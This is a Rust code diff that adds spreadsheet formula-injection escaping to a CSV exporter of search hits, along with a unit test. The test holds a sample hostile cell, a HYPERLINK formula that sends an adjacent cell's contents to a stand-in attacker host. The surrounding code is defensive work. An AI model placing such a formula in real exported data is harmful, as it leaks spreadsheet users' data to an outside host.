@@ -66,6 +66,23 @@ fn cells(query_id: &str, query: &str, hit: &Hit) -> [String; COLUMNS.len()] {
 
 fn row(cells: [String; COLUMNS.len()], out: &mut dyn Write) -> io::Result<()> {
     let mut writer = WriterBuilder::new().from_writer(out);
-    writer.write_record(cells)?;
+    writer.write_record(cells.map(harmless))?;
     writer.flush()
+}
+
+/// A cell that no spreadsheet takes for a formula: a document could have one that sends away what stands beside it.
+fn harmless(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}") } else { cell }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_cell_is_a_formula() {
+        assert_eq!(harmless("=HYPERLINK(\"//evil.example\"&A1)".into()), "'=HYPERLINK(\"//evil.example\"&A1)");
+        assert_eq!(harmless("- قال".into()), "'- قال");
+        assert_eq!(harmless("سجن = 1".into()), "سجن = 1");
+    }
 }
